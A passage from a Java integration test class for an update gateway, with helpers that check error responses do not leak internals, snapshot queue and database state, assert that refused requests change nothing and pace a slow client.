        assertThat(body).as("error body").isNotBlank().doesNotContain("Exception").doesNotContain("\tat ")
                .doesNotContain("jackson").doesNotContain("vertx");
        assertThat(body.length()).as("error body size: %s", abbreviated(body)).isLessThan(MAX_ERROR_BODY);
        assertThat(body).as("no long run of the input echoed").doesNotContainPattern("(.)\\1{100}");
        JsonNode json;
        try {
            json = UpdateJson.MAPPER.readTree(body);
        } catch (IOException e) {
            throw new AssertionError("expected a JSON error body, got: " + abbreviated(body), e);
        }
        assertThat(json.path("error").asText()).as(body).isEqualTo(error);
        assertThat(json.path("message").isTextual()).as(body).isTrue();
        assertThat(json.path("message").asText()).as(body).isNotBlank().hasSizeLessThan(500);
        return json;
    }

    private static String abbreviated(String s) {
        return s == null || s.length() < 500 ? s : s.substring(0, 500) + "…";
    }

    /** Everything a request could have changed: the broker's queues and the mirror's tables. */
    record Held(long outbound, long inbound, long dlq, long updateRows, long auditRows, long conflicts, String products) {
    }

    private Held held() {
        return new Held(t.gateway().depth(Queues.OUTBOUND), t.gateway().depth(Queues.INBOUND), t.gateway().depth(Queues.DLQ),
                count("SELECT (SELECT COUNT(*) FROM queued_update) + (SELECT COUNT(*) FROM settled_update)"), count("SELECT COUNT(*) FROM mirror_audit"),
                count("SELECT COUNT(*) FROM conflict"), products());
    }

    /** The held state once earlier good updates have settled, so a comparison sees only the next request. */
    private Held heldOnceQuiet() {
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            assertThat(t.gateway().backlog()).isZero();
            assertThat(count("SELECT COUNT(*) FROM queued_update")).isZero();
        });
        return held();
    }

    private long count(String sql) {
        try (Connection c = t.gateway().mirror().dataSource().getConnection(); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery(sql)) {
            rs.next();
            return rs.getLong(1);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    private String products() {
        StringBuilder b = new StringBuilder();
        try (Connection c = t.gateway().mirror().dataSource().getConnection(); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery("SELECT sku, name, price, quantity, version, deleted FROM product ORDER BY sku")) {
            while (rs.next()) {
                for (int i = 1; i <= 6; i++) {
                    b.append(rs.getString(i)).append(i < 6 ? "|" : "\n");
                }
            }
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
        return b.toString();
    }

    private static Map<Path, String> routeFiles() throws IOException {
        try (Stream<Path> files = Files.list(Path.of("routes"))) {
            return files.collect(Collectors.toMap(p -> p, p -> {
                try {
                    return Files.readString(p);
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }));
        }
    }

    /** The refused request left the queues and the mirror as they were, and a good update still goes through. */
    private void assertNothingChangedAndStillServing(Held before) {
        assertThat(held()).as("what the gateway holds afterwards").isEqualTo(before);
        assertStillServesAGoodUpdate();
    }

    /** 202 for a good update, which then reaches HQ. */
    private void assertStillServesAGoodUpdate() {
        String updateId = id("good");
        Reply reply = terminal.post(TerminalClient.adjust(updateId, "SKU-0002", 1));
        assertThat(reply.status()).as("a good update afterwards: %s", reply.body()).isEqualTo(202);
        assertThat(reply.json().at("/accepted/0/status").asText()).isEqualTo("QUEUED");
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() ->
                assertThat(terminal.update(updateId).path("status").asText()).isEqualTo("APPLIED"));
    }

    /** The pace of a trickling client: time passing is what is being tested. */
    private static void pace(Duration d) {
        LockSupport.parkNanos(d.toNanos());
    }

    private String id(String prefix) {
        return prefix + "-" + ids.incrementAndGet();
    }
}
